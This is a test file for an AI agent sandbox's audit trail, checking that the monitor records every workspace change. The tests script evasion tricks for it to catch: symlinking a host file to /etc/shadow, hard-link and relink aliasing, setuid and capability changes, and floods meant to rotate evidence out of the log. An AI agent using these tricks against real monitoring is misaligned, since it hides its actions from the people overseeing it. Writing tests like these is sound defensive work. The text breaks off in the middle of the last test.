#!/usr/bin/env bats
# audit-evidence.bats - the audit trail in the setup people run (the agent profile with a host
# directory bound at /workspace, i.e. an overlay workspace): every file change at any depth,
# from the container's process and from exec; evidence that a flood cannot rotate out; the
# profile's refused system calls.  The basics of the trail are in audit.bats.

load helpers
load syscall-trail

eval "$(declare -f teardown_file | sed '1s/teardown_file/helpers_teardown_file/')"

setup() {
	setup_bundle
	agentrt_only "the audit trail is agentrt's"
	requires jq
	export AGENTRT_PROFILE=agent
	HOSTDIR=$BUNDLE/host
	mkdir -p "$HOSTDIR/data/deep" "$ROOTFS/workspace"
	echo hello >"$HOSTDIR/a.txt"
	echo keep >"$HOSTDIR/b.txt"
	echo old >"$HOSTDIR/data/deep/old.txt"
	echo rows >"$HOSTDIR/data/rows.txt"
	echo gone >"$HOSTDIR/data/deep/gone.txt"
	ID=ev-$$-$BATS_TEST_NUMBER
}

teardown() {
	# a monitor a test stopped (exec-opens) runs again before the container is deleted
	[ -z "${STOPPED_MON:-}" ] || kill -CONT "$STOPPED_MON" 2>/dev/null || true
	teardown_bundle
	local rc=$?
	rt workspace "$ID" purge >/dev/null 2>&1
	rm -rf "${TEST_STORE:?}/.audit" "${TEST_STORE:?}/.workspaces"
	return $rc
}

teardown_file() {
	rm -rf "${TEST_STORE:?}/.audit" "${TEST_ROOT:?}/.cache" "${TEST_STORE:?}/.workspaces"
	helpers_teardown_file
}

# The number the agent wrote to /workspace/count, read through review (the
# upper layer is in the workspace's image, not a host directory).
ws_count() {
	ra workspace "$ID" diff --patch | sed -n 's/^+\([0-9][0-9]*\)$/\1/p' | tail -1
}

# The engine's view of a workspace: the host directory bound at /workspace.
bind_workspace() {
	update_config ".mounts += [{\"destination\": \"/workspace\", \"type\": \"bind\", \"source\": \"$HOSTDIR\", \"options\": [\"rbind\", \"rw\"]}]"
}

# wait_ready: until the trail has the container's /workspace/ready (up to 10 s)
wait_ready() {
	for _ in $(seq 100); do
		[ -n "$(file_ops "$ID" /workspace/ready)" ] && return
		sleep 0.1
	done
}

# file_ops ID PATH: the ops of PATH's file records, one JSON array a line
file_ops() {
	ra audit --format json --kind file "$1" | jq -c --arg p "$2" 'select(.path == $p) | .ops'
}

@test "audit-evidence: an overlay workspace's changes at any depth, from the process and from exec" {
	bind_workspace
	set_cmd 'cd /workspace && echo n >top.txt && mkdir -p x/y/z && echo deep >x/y/z/f.txt &&
		echo more >>a.txt && mv b.txt b2.txt && rm data/rows.txt && echo m >>data/deep/old.txt &&
		mkdir tmpd && echo t >tmpd/t && rm -rf tmpd && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	! grep -qi "warning" "$BUNDLE/$ID.err" || fail "warning at create: $(cat "$BUNDLE/$ID.err")"
	wait_ready
	run rt exec "$ID" sh -c 'cd /workspace/x/y && echo e >from-exec.txt && mv from-exec.txt renamed.txt &&
		rm /workspace/data/deep/gone.txt'
	[ "$status" -eq 0 ] || fail "exec: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	# the host directory is untouched: every record comes from the overlay's upper layer
	[ "$(cat "$HOSTDIR/b.txt")" = keep ] && [ -f "$HOSTDIR/data/rows.txt" ]
	[ "$(file_ops "$ID" /workspace/top.txt)" = '["create","modify"]' ] || fail "top: $(file_ops "$ID" /workspace/top.txt)"
	[ "$(file_ops "$ID" /workspace/x/y/z/f.txt)" = '["create","modify"]' ] || fail "nested"
	[ "$(file_ops "$ID" /workspace/x/y/z)" = '["create"]' ]
	# a modified host file: its copy-up is not a create
	[ "$(file_ops "$ID" /workspace/a.txt)" = '["modify"]' ] || fail "a.txt: $(file_ops "$ID" /workspace/a.txt)"
	[ "$(file_ops "$ID" /workspace/data/deep/old.txt)" = '["modify"]' ]
	# the directories copied up on the way are not changes
	[ -z "$(file_ops "$ID" /workspace/data)" ] && [ -z "$(file_ops "$ID" /workspace/data/deep)" ]
	# a rename of a host file: both names
	records=$(ra audit --format json --kind file "$ID")
	jq -se 'any(.[]; .path == "/workspace/b2.txt" and .from == "/workspace/b.txt" and .ops == ["moved_to"])' <<<"$records" >/dev/null ||
		fail "rename: $records"
	jq -se 'any(.[]; .path == "/workspace/b.txt" and .to == "/workspace/b2.txt")' <<<"$records" >/dev/null
	# a deleted host file (a whiteout in upper) is a delete
	[ "$(file_ops "$ID" /workspace/data/rows.txt)" = '["delete"]' ] || fail "rows: $(file_ops "$ID" /workspace/data/rows.txt)"
	[ "$(file_ops "$ID" /workspace/tmpd/t)" = '["create","modify","delete"]' ] ||
		fail "tmpd/t: $(file_ops "$ID" /workspace/tmpd/t); records: $records"
	# from exec, deep in the tree
	jq -se 'any(.[]; .path == "/workspace/x/y/renamed.txt" and .from == "/workspace/x/y/from-exec.txt")' <<<"$records" >/dev/null ||
		fail "exec rename: $records"
	[ "$(file_ops "$ID" /workspace/x/y/from-exec.txt)" = '["create","modify","moved_from"]' ]
	[ "$(file_ops "$ID" /workspace/data/deep/gone.txt)" = '["delete"]' ]
	# nothing outside the workspace, nothing of the overlay's own (work dir, upper path)
	[ -z "$(jq -r '.path | select(startswith("/workspace/") | not)' <<<"$records")" ] || fail "$records"
	! grep -q '#\|/upper\|/work/' <<<"$(jq -r .path <<<"$records")"
	# what the trail says matches what workspace diff lists
	run ra workspace "$ID" diff --format json
	for p in top.txt x/y/z/f.txt x/y/renamed.txt a.txt data/rows.txt data/deep/gone.txt; do
		jq -e --arg p "$p" 'any(.changes[]; .path == $p or .path == ($p + "/"))' <<<"$output" >/dev/null ||
			fail "diff lacks $p: $output"
	done
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/x/y/z/f.txt (create,modify)"
	! grep -q "incomplete" <<<"$output" || fail "$output"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
}

@test "audit-evidence: replaced-host-file: a host file removed and made again under its name (a symlink to /etc/shadow, an empty file) is in the trail, at once or later" {
	# The overlay puts such a file in upper by a rename from its work dir over the whiteout,
	# as it does a copy-up; before the fix the monitor took it for a copy-up (the host dir has
	# the name) and wrote nothing: a host file turned into a symlink to /etc/shadow, which
	# `workspace diff` holds back as protected, left no record but nothing at all.
	bind_workspace
	for f in l1 l2 e1 e2 c1; do echo "host $f" >"$HOSTDIR/$f"; done
	set_cmd 'cd /workspace && ln -sf /etc/shadow l1 && rm l2 e2 && rm e1 && : >e1 && chmod 600 c1 &&
		sleep 1.5 && ln -s /etc/passwd l2 && touch e2 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  l1  (file -> symlink)"* && "$output" == *"modified  l2  (file -> symlink)"* ]] || fail "diff: $output"
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID")
	for f in l1 l2 e1 e2; do
		jq -se --arg p "/workspace/$f" 'any(.[]; .path == $p and (.ops | index("create") or index("modify")))' <<<"$records" >/dev/null ||
			fail "$f: $(file_ops "$ID" "/workspace/$f"); $records"
	done
	# a copy-up with a mode change is still no create
	[ "$(file_ops "$ID" /workspace/c1)" = '["attrib"]' ] || fail "c1: $(file_ops "$ID" /workspace/c1)"
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/l1 ("
}

@test "audit-evidence: hardlink-alias: a host file changed through a hard link made to it is named in the trail, not only the link's new name" {
	# `ln h1 k1` copies h1 up and links it (no change of h1's own), and a write through k1
	# later changes h1 too (commit applies it); before the fix the trail said only "k1
	# created" and "k1 modified", with no word of h1, while `workspace diff` says h1 modified.
	bind_workspace
	echo "host 1" >"$HOSTDIR/h1"
	echo "host 2" >"$HOSTDIR/h2"
	set_cmd 'cd /workspace && ln h1 k1 && mkdir sub && ln h2 sub/x && sleep 1.5 && echo evil >>k1 && echo evil >>sub/x &&
		touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  h1"* && "$output" == *"modified  h2"* ]] || fail "diff: $output"
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID")
	# (the kernel names the write by either of the file's names: CI saw it under h1 itself,
	# the other name in its links)
	for l in "k1 h1" "sub/x h2"; do
		set -- $l
		jq -se --arg p "/workspace/$1" --arg h "/workspace/$2" 'any(.[]; (.ops | index("modify")) and .nlink == 2 and
			((.path == $p and (.links | index($h))) or (.path == $h and (.links | index($p)))))' <<<"$records" >/dev/null ||
			fail "$1: $(jq -c 'select(.path | test("k1|h1|sub/x|h2")) | {path, ops, nlink, links}' <<<"$records")"
	done
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/h1 (modify"
	assert_output_contains "/workspace/h2 (modify"
}

@test "audit-evidence: hardlink-alias-evicted: a host file linked, then written through the link after 200 other files were recorded, is in the trail by its inode" {
	# the monitor names a link's other names from the files it saw lately (128 by inode): 200
	# files made between `ln h1 k1` and the write through k1 pushed h1 out, and the write was
	# "k1 modified" alone (nlink 2, no other name), while `workspace diff` says h1 modified.
	# The records of a file of several links carry its inode, and --summary joins a write to
	# the names an earlier record of the inode gave (test_audit: "summary_links_by_inode";
	# here h1 is past the 20 names the summary shows)
	bind_workspace
	echo "host 1" >"$HOSTDIR/h1"
	set_cmd 'cd /workspace && ln h1 k1 && sleep 1.5 && i=0; while [ $i -lt 200 ]; do : >n$i; i=$((i + 1)); done &&
		sleep 1.5 && echo evil >>k1 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  h1"* ]] || fail "diff: $output"
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID" | jq -c 'select(.path | test("/(k1|h1)$")) | {path, ops, nlink, links, ino}')
	# the link's record names h1; the write (by either name: the kernel's choice) carries the
	# same inode, or names the other itself
	ino=$(jq -s -r '[.[] | select(.ops | index("create")) | select(.links | index("/workspace/h1"))][0].ino // empty' <<<"$records")
	[ -n "$ino" ] || fail "the link's record has no inode: $records"
	jq -se --argjson i "$ino" 'any(.[]; (.ops | index("modify")) and .nlink == 2 and (.ino == $i or (.links // [] | length) > 0))' \
		<<<"$records" >/dev/null || fail "the write: $records"
	run ra audit --summary "$ID"
	assert_output_contains "files changed (203)"
}

@test "audit-evidence: inode-reused-links: a file of two links made on the inode number of a removed one is not joined to the removed one's names" {
	# h1 linked as k1 (the record names h1 and the inode), both removed, then x made and
	# linked as y: the upper layer's file system gives x the freed inode number, and
	# --summary joined the write through x to h1 ("modify via /workspace/x").  The records
	# carry the inode's birth time too, which a new file does not share.
	bind_workspace
	echo "host 1" >"$HOSTDIR/h1"
	set_cmd 'cd /workspace && ln h1 k1 && sleep 1.5 && rm h1 k1 && : >x && ln x y && sleep 1.5 &&
		echo new >>x && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID" | jq -c 'select(.ino) | {path, ops, ino, born}')
	k1=$(jq -sr '[.[] | select(.path == "/workspace/k1")][0].ino' <<<"$records")
	x=$(jq -sr '[.[] | select(.path == "/workspace/x" or .path == "/workspace/y")][0].ino' <<<"$records")
	[ "$k1" = "$x" ] || skip "the inode number was not reused ($k1, $x)"
	run ra audit --summary "$ID"
	# y's own name is joined (the same file); h1 and k1 are not
	[[ "$output" == *"/workspace/h1 (delete)"* && "$output" == *"/workspace/k1 (create,delete)"* &&
		"$output" == *"/workspace/y (create,modify via /workspace/x)"* ]] || fail "joined: $output; $records"
}

@test "audit-evidence: relinked-host-file: a host file replaced by a link to a file of its size, mode and mtime is in the trail; a copy-up that changed nothing is not" {
	# `rm r1; ln t1 r1` puts t1's inode in upper under r1 by a rename from the overlay's work
	# dir, as a copy-up does; with t1 made to r1's size, mode and mtime (touch -r) the monitor
	# took it for a copy-up (it compared only those) and wrote nothing of r1, while `workspace
	# diff` lists r1 modified and commit writes the agent's bytes over the host's.
	bind_workspace
	for f in r1 r2 r3 c1 c2; do echo "host $f" >"$HOSTDIR/$f"; done
	ln "$HOSTDIR/c2" "$HOSTDIR/c2-alias" # a lower file of two links: the overlay keeps no origin
	ln -s target-a "$HOSTDIR/s1" && touch -h -d @1577836800 "$HOSTDIR/s1"
	set_cmd 'cd /workspace && printf "evil r1\n" >t1 && touch -r r1 t1 && rm r1 && ln t1 r1 && rm t1 &&
		printf "evil r2\n" >t2 && touch -r r2 t2 && rm r2 && sleep 1.5 && ln t2 r2 && rm t2 &&
		ln -s target-b ts && touch -h -d @1577836800 ts && rm s1 && sleep 1.5 && ln ts s1 && rm ts &&
		touch -r r3 ref3 && mv r3 k3 && sleep 1.5 && printf "evil r3\n" >k3 && touch -r ref3 k3 && ln k3 r3 && rm k3 ref3 &&
		exec 3<>c1 4<>c2 && sleep 1.5 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  r1  (8 -> 8 bytes)"* && "$output" == *"modified  r2  (8 -> 8 bytes)"* &&
		"$output" == *"modified  r3  (8 -> 8 bytes)"* &&
		"$output" == *"modified  s1"* ]] || fail "diff: $output"
	[[ "$output" != *c1* && "$output" != *c2* ]] || fail "diff: $output"
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID")
	# r1: in the window of its removal or later; r2, s1: the removal, then the link; r3: its own
	# copy-up (the overlay's origin names r3) moved away, changed, and linked back
	for f in r1 r2 s1 r3; do
		jq -se --arg p "/workspace/$f" 'any(.[]; .path == $p and (.ops | index("create") or index("modify")))' <<<"$records" >/dev/null ||
			fail "$f: $(file_ops "$ID" "/workspace/$f"); $records"
	done
	# opened for writing, nothing written: copy-ups, no create or modify (a close_write, which
	# says a shared mapping may have written it, as mmap-unrecorded has it)
	for f in c1 c2; do
		ops=$(file_ops "$ID" "/workspace/$f")
		[ -z "$ops" ] || [ "$ops" = '["close_write"]' ] || fail "$f: $ops"
	done
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/r1 ("
}

@test "audit-evidence: relinked-large-copyup: a host file over 64 MiB whose own copy-up was moved away, written and linked back is in the trail" {
	# big's copy-up (the overlay's origin names big) moved to k, one byte written in it, its
	# mtime put back and linked as big again: size, mode, mtime and origin are big's, and the
	# monitor compares no more than 64 MiB of bytes, so it took the file for an unchanged
	# copy-up and wrote nothing of big while commit writes the agent's byte over the host's.
	# A large copy-up opened for writing with nothing written is no modify.
	bind_workspace
	truncate -s 70M "$HOSTDIR/big" "$HOSTDIR/big2"
	set_cmd 'cd /workspace && touch -r big ref && mv big k && sleep 1.5 &&
		printf X | dd of=k bs=1 seek=1000 conv=notrunc 2>/dev/null && touch -r ref k && ln k big && rm k ref &&
		exec 3<>big2 && sleep 1.5 && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	run ra workspace "$ID" diff
	[[ "$output" == *"modified  big"* && "$output" != *big2* ]] || fail "diff: $output"
	ra delete "$ID"
	records=$(ra audit --format json --kind file "$ID")
	jq -se 'any(.[]; .path == "/workspace/big" and (.ops | index("modify") or index("unverified")))' <<<"$records" >/dev/null ||
		fail "big: $(file_ops "$ID" /workspace/big); $records"
	ops=$(file_ops "$ID" /workspace/big2)
	[[ "$ops" != *modify* && "$ops" != *create* ]] || fail "big2: $ops"
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/big ("
}

@test "audit-evidence: attrib-unrecorded: a mode change of a host file (chmod +x, setuid), which commit applies, is in the trail" {
	bind_workspace
	printf '#!/bin/sh\necho hi\n' >"$HOSTDIR/run.sh"
	chmod 0644 "$HOSTDIR/run.sh" "$HOSTDIR/a.txt" "$HOSTDIR/b.txt"
	# before the fix the monitor marked no FAN_ATTRIB: a copy-up with no write is no
	# change of its own, so these three left no record while `workspace diff` lists them
	set_cmd 'cd /workspace && chmod +x run.sh && chmod 4755 a.txt && echo n >new.txt && chmod 0755 new.txt &&
		mkdir d && chmod 0700 d && touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	run rt exec "$ID" chmod 0600 /workspace/b.txt
	[ "$status" -eq 0 ] || fail "exec: $output"
	run ra workspace "$ID" diff
	[[ "$output" == *"run.sh  (mode 0644 -> 0755)"* && "$output" == *"a.txt  (mode 0644 -> 4755)"* ]] ||
		fail "diff: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	ra delete "$ID"
	[ "$(file_ops "$ID" /workspace/run.sh)" = '["attrib"]' ] || fail "run.sh: $(file_ops "$ID" /workspace/run.sh)"
	[ "$(file_ops "$ID" /workspace/a.txt)" = '["attrib"]' ] || fail "a.txt: $(file_ops "$ID" /workspace/a.txt)"
	[ "$(file_ops "$ID" /workspace/b.txt)" = '["attrib"]' ] || fail "b.txt (exec): $(file_ops "$ID" /workspace/b.txt)"
	[ "$(file_ops "$ID" /workspace/new.txt)" = '["create","modify","attrib"]' ] || fail "new.txt: $(file_ops "$ID" /workspace/new.txt)"
	# directories: their creation only (overlayfs sets xattrs of its own on them)
	[ "$(file_ops "$ID" /workspace/d)" = '["create"]' ] || fail "d: $(file_ops "$ID" /workspace/d)"
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/run.sh (attrib)"
	[ "$(cat "$HOSTDIR/run.sh")" = "$(printf '#!/bin/sh\necho hi')" ] && [ ! -x "$HOSTDIR/run.sh" ]
}

@test "audit-evidence: xattr-only: an extended attribute the agent sets (user.*, security.capability) is in the trail; review does not list it and commit does not carry it (README)" {
	requires python3
	# xattr FILE NAME: its value, empty when it has none
	xattr() { python3 -c 'import os, sys
try: sys.stdout.write(os.getxattr(sys.argv[1], sys.argv[2]).decode("latin-1"))
except OSError: pass' "$1" "$2"; }
	bind_workspace
	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.host", b"kept")' "$HOSTDIR/b.txt" ||
		fail "no user xattrs on $HOSTDIR"
	set_cmd 'cd /workspace && fileops setxattr a.txt user.agent evil && echo changed >b.txt &&
		fileops setxattr b.txt user.agent evil && echo new >n.txt && fileops setxattr n.txt user.agent evil &&
		{ fileops setxattr a.txt security.capability cap 2>/dev/null || echo NOCAP >>/workspace/setcap; } &&
		touch /workspace/ready && sleep 30'
	run_detached "$ID"
	[ "$status" -eq 0 ] || fail "run: $output"
	wait_ready
	# a file whose only change is an xattr is no change the review shows
	run ra workspace "$ID" diff
	[ "$status" -eq 0 ] || fail "diff: $output"
	[[ "$output" != *"a.txt"* ]] || fail "diff lists an xattr-only change: $output"
	[[ "$output" == *"modified  b.txt"* && "$output" == *"added     n.txt"* ]] || fail "diff: $output"
	rt kill "$ID" KILL
	wait_for_status "$ID" stopped 20
	# the trail has it
	ops=$(file_ops "$ID" /workspace/a.txt)
	[ "$ops" = '["attrib"]' ] || fail "a.txt: ${ops:-no record}"
	run ra audit --summary "$ID"
	assert_output_contains "/workspace/a.txt (attrib)"
	run ra workspace "$ID" commit
	[ "$status" -eq 0 ] || fail "commit: $output"
	[ "$(cat "$HOSTDIR/b.txt")" = changed ] && [ "$(cat "$HOSTDIR/n.txt")" = new ] || fail "not committed"
	# no xattr of the agent's on the host, none of the capability's either
	for f in a.txt b.txt n.txt; do
		[ -z "$(xattr "$HOSTDIR/$f" user.agent)" ] || fail "$f: user.agent reached the host"
		[ -z "$(xattr "$HOSTDIR/$f" security.capability)" ] || fail "$f: security.capability reached the host"
	done
	# the agent profile keeps no CAP_SETFCAP: the capability was refused inside too
	[ "$(cat "$HOSTDIR/setcap")" = NOCAP ] || fail "security.capability set inside"
	# the host's own user.* xattr on a file the agent changed stays (commit writes a new file
	# and renames it over the host's: before, it was lost)
	[ "$(xattr "$HOSTDIR/b.txt" user.host)" = kept ] || fail "b.txt lost the host's user.host"
	ra delete "$ID"
}

@test "audit-evidence: file-flood-rotation: files made with new names by the thousand cannot rotate earlier evidence out, and a protected file amid them is recorded in full" {
	# a 1 MiB trail (its first file 128 KiB): 12,000 file records of ~250 bytes each were three
	# times that, and retention removed every file after the first, the evidence's too
	# (declared as dropped, but gone)
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "audit-file-flood", "extends": "agent", "audit": { "maxSize": "1m" } }
	JSON
	bind_workspace
	set_cmd 'cd /workspace && i=0; while [ $i -lt 1000 ]; do : >pre$i; i=$((i + 1)); done
		sleep 1.2; echo secret >evidence.txt; sleep 1.2
		i=0; while [ $i -lt 12000 ]; do : >f$i; i=$((i + 1))
			[ $i -ne 6000 ] || echo "export X=1" >.envrc; done
		sleep 1.5; echo done >last.txt'
	timeout --kill-after=5 200 "$AGENTRT" --root "$TEST_ROOT" --profile "$BUNDLE/profile.json" \
		run --bundle "$BUNDLE" "$ID" </dev/null >"$BUNDLE/out" 2>&1 || fail "run: $(cat "$BUNDLE/out")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	[[ "$output" != *"dropped by retention"* ]] || fail "retention dropped records: $output"
	json=$(ra audit --format json "$ID")
	for f in evidence.txt .envrc; do
		jq -se --arg p "/workspace/$f" 'any(.[]; .kind == "file" and .path == $p)' <<<"$json" >/dev/null ||
			fail "no record of $f"
	done
	# honest counts: the full file records and the counted ones add up to every file made
	full=$(jq -s '[.[] | select(.kind == "file" and .path != null and (.path | test("^/workspace/(pre|f)[0-9]+$")))] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "file" and .coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# $full full records, $counted counted" >&3
	[ "$counted" -gt 0 ] || fail "nothing coalesced"
	[ $((full + counted)) -ge 13000 ] || fail "full $full + counted $counted of 13000"
	run ra audit --summary "$ID"
	assert_output_contains "events coalesced into"
	assert_output_contains "files changed ("
	grep -q "^files changed ([0-9]*+)" <<<"$output" || fail "the file list does not say it is partial: $output"
}

# run_flood_verified: run the container with $BUNDLE/profile.json (up to 250 s); its trail
# must verify with nothing dropped by retention.
run_flood_verified() {
	timeout --kill-after=5 250 "$AGENTRT" --root "$TEST_ROOT" --profile "$BUNDLE/profile.json" \
		run --bundle "$BUNDLE" "$ID" </dev/null >"$BUNDLE/out" 2>&1 || fail "run: $(cat "$BUNDLE/out")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	[[ "$output" != *"dropped by retention"* ]] || fail "retention dropped records: $output"
}

# bats test_tags=flood
@test "audit-evidence: protected-flood-rotation: files made by the thousand under a protected directory (.vscode/) cannot rotate earlier evidence out" {
	# A change the review would hold back is always recorded in full, past the flood limit:
	# files of new names under .vscode/ (12,000, each a full record) rotated every file of a
	# 1 MiB trail but the first out, the evidence in them too (declared dropped, but gone).
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "audit-protected-flood", "extends": "agent", "audit": { "maxSize": "1m" } }
	JSON
	bind_workspace
	set_cmd 'cd /workspace && i=0; while [ $i -lt 1000 ]; do : >pre$i; i=$((i + 1)); done
		sleep 1.2; echo secret >evidence.txt; sleep 1.2; mkdir .vscode
		i=0; while [ $i -lt 12000 ]; do : >.vscode/f$i; i=$((i + 1)); done
		sleep 1.5; echo done >last.txt'
	timeout --kill-after=5 200 "$AGENTRT" --root "$TEST_ROOT" --profile "$BUNDLE/profile.json" \
		run --bundle "$BUNDLE" "$ID" </dev/null >"$BUNDLE/out" 2>&1 || fail "run: $(cat "$BUNDLE/out")"
	run ra audit verify "$ID"
	[ "$status" -eq 0 ] || fail "verify: $output"
	[[ "$output" != *"dropped by retention"* ]] || fail "retention dropped records: $output"
	json=$(ra audit --format json "$ID")
	jq -se 'any(.[]; .kind == "file" and .path == "/workspace/evidence.txt")' <<<"$json" >/dev/null ||
		fail "no record of evidence.txt"
	# every protected change is in the trail, in full or counted
	full=$(jq -s '[.[] | select(.kind == "file" and .path != null and (.path | test("^/workspace/.vscode/f[0-9]+$")))] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.kind == "file" and .coalesced) | .coalesced] | add // 0' <<<"$json")
	echo "# $full full records, $counted counted" >&3
	[ $((full + counted)) -ge 12000 ] || fail "full $full + counted $counted of 12000 (and the 1000 before)"
}

@test "audit-evidence: program-flood-rotation: programs run under new names by the thousand cannot rotate earlier evidence out" {
	# (the flood stops after 40 s: the bucket's 20 a second for longer fills any size of trail,
	# declared in THREAT-MODEL; a slow CI machine took 140 s for the 12,000 and retention dropped.
	# A process record is ~310 bytes: 40 s here run ~4,000 programs, 1.2 MB as full records,
	# and the limit lets ~1,800 through, ~560 KB)
	# a 1 MiB trail (its first file 128 KiB): every exec of a program of a name not seen before
	# was a fresh bucket of the flood limit, so 12,000 hard links of one binary, each run once,
	# were 12,000 full records, and retention removed every file after the first, the
	# evidence's too (declared as dropped, but gone)
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "audit-program-flood", "extends": "agent", "audit": { "maxSize": "1m" } }
	JSON
	set_cmd 'cd /tmp && cp /usr/local/bin/try-syscall base && s0=$(date +%s) i=0; while [ $i -lt 600 ]; do ln base pre$i; ./pre$i x 2>/dev/null; i=$((i + 1)); done
		sleep 1.2; ln base evidence-prog; ./evidence-prog x 2>/dev/null; sleep 1.2
		i=0; t0=$(date +%s); while [ $i -lt 12000 ]; do ln base p$i; ./p$i x 2>/dev/null; i=$((i + 1))
			[ $((i % 1000)) -ne 0 ] || [ $(($(date +%s) - t0)) -lt 40 ] || break; done
		echo "count=$i secs=$(($(date +%s) - s0 + 1))"; sleep 1.5; /bin/sh -c "sleep 0.1" marker-last'
	run_flood_verified
	local ran secs
	ran=$(sed -n 's/^count=\([0-9][0-9]*\) .*$/\1/p' "$BUNDLE/out")
	secs=$(sed -n 's/^count=[0-9]* secs=\([0-9][0-9]*\)$/\1/p' "$BUNDLE/out")
	[ -n "$ran" ] && [ "$ran" -ge 2000 ] || fail "the flood ran ${ran:-no} programs: $(cat "$BUNDLE/out")"
	json=$(ra audit --format json --kind process "$ID")
	for p in /tmp/evidence-prog /tmp/pre0; do
		jq -se --arg p "$p" 'any(.[]; .exe == $p)' <<<"$json" >/dev/null || fail "no record of $p"
	done
	jq -se 'any(.[]; any(.argv[]?; . == "marker-last"))' <<<"$json" >/dev/null || fail "no record after the flood"
	# honest counts: every run of the links is in the trail, in full or counted
	# (a run read only after it was gone is a record without its exe)
	full=$(jq -s '[.[] | select((.exe != null and (.exe | test("^/tmp/p(re)?[0-9]+$"))) or .gone)] | length' <<<"$json")
	counted=$(jq -s '[.[] | select(.coalesced) | .coalesced] | add // 0' <<<"$json")
	# and the `sleep 1.5` after the flood: counted with them, or in full when the bucket had a
	# token again (the shell's other applets run without an exec), so the sum is exact: a run
	# of a short program lost between the monitor's two sockets was hidden by it (exit-before-exec)
	sleep15=$(jq -s '[.[] | select(.argv == ["sleep", "1.5"])] | length' <<<"$json")
	echo "# $((600 + ran)) programs in $secs s: $full full records, $counted counted" >&3
	[ $((full + counted + sleep15)) -ge $((600 + ran + 1)) ] ||
		fail "full $full + counted $counted + sleep 1.5's $sleep15 of $((600 + ran + 1)):" \
			"$(jq -sc 'map(select(.kind != "process" or .coalesced or .gone or .exe == null or (.exe | test("^/tmp/p") | not)))' <<<"$json" | head -c 3000)"
	# the kind's bucket (1,000, then 20 a second) must have refused some: unless the machine
	# ran them so slowly that it did not have to (seen once: 2,600 in about 80 s)
	if [ $((600 + ran)) -le $((1000 + 20 * secs + 50)) ]; then
		echo "# under the flood limit: $((600 + ran)) programs in $secs s (<= 1,000 + 20 a second)" >&3
		[ "$counted" -eq 0 ] || [ "$full" -ge 1000 ] || fail "counted $counted under the limit with $full full records"
		return
	fi
	[ "$counted" -gt 0 ] || fail "nothing coalesced"
	jq -se 'any(.[]; .coalesced and .program == "(various programs)")' <<<"$json" >/dev/null ||
		fail "no counted record of the kind's own bucket"
	run ra audit --summary "$ID"
	assert_output_contains "events coalesced into"
}

# bats test_tags=flood
@test "audit-evidence: program-flood-rotation: 200 programs run in turn (more than the flood table holds) cannot rotate earlier evidence out" {
	# the table of (kind, program) buckets holds 128: each of 200 names run in turn found its
	# bucket evicted and started again with a full burst, so every run was a full record
	# (the cycles stop after 40 s, as the flood above: 20 counted records a second for longer
	# fill any size of trail, declared in THREAT-MODEL; on a slow CI machine 112 s of cycles
	# filled a 1 MiB trail and retention dropped 822 records. A 768 KiB trail, ~2,500 records of
	# ~310 bytes: with every run a full record, 13 cycles or more overflow it (the CI machine
	# runs ~19 in 40 s), and the limit lets ~1,800 through in 40 s)
	cat >"$BUNDLE/profile.json" <<-'JSON'
		{ "name": "audit-program-cycle", "extends": "agent", "audit": { "maxSize": "768k" } }
	JSON
	set_cmd 'cd /tmp && cp /usr/local/bin/try-syscall base && i=0; while [ $i -lt 200 ]; do ln base c$i; i=$((i + 1)); done
		ln base evidence-prog; ./evidence-prog x 2>/dev/null; sleep 1.2
		r=0; t0=$(date +%s); while [ $r -lt 60 ]; do i=0; while [ $i -lt 200 ]; do ./c$i x 2>/dev/null; i=$((i + 1)); done; r=$((r + 1))
			[ $(($(date +%s) - t0)) -lt 40 ] || break; done
		echo "cycles=$r"; sleep 1.5'
	run_flood_verified
	local cycles
